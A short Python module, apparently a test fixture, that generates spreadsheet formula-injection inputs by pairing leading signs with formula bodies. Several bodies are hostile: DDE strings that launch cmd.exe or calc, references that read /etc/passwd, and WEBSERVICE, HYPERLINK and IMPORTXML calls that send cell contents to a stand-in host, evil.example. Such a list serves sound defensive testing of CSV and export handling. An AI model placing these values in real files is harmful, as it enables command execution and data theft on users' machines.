"""Texts that a careless program would run as a formula."""

import itertools

SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "==", "+=")
CALLS = (
    "1+1",
    "1+1+cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"open")',
    'WEBSERVICE("https://evil.example/"&A2)',
    'IMPORTXML("https://evil.example","//a")',
    "SUM(1;2)",
    "SUM(A1:A9)*1",
    'DDE("soffice";"/etc/passwd";"A1")',
    "'file:///etc/passwd'#$passwd.A1",
    "A1",
    "1/0",
    'CHAR(65)&"b"',
    "NOW()",
    "RAND()",
    'INDIRECT("A1")',
    "TRUE()",
    "{1,2}",
    '"a"&"b"',
    "1;2",
    "1,2|3",
    'MSEXCEL|"..\\..\\cmd.exe"!A1',
    "1e3",
    "(1+1)",
    "\u0662+1",
    'cmd|"/c calc"!A1',
)
PAYLOADS = [sign + call for sign, call in itertools.product(SIGNS, CALLS)]
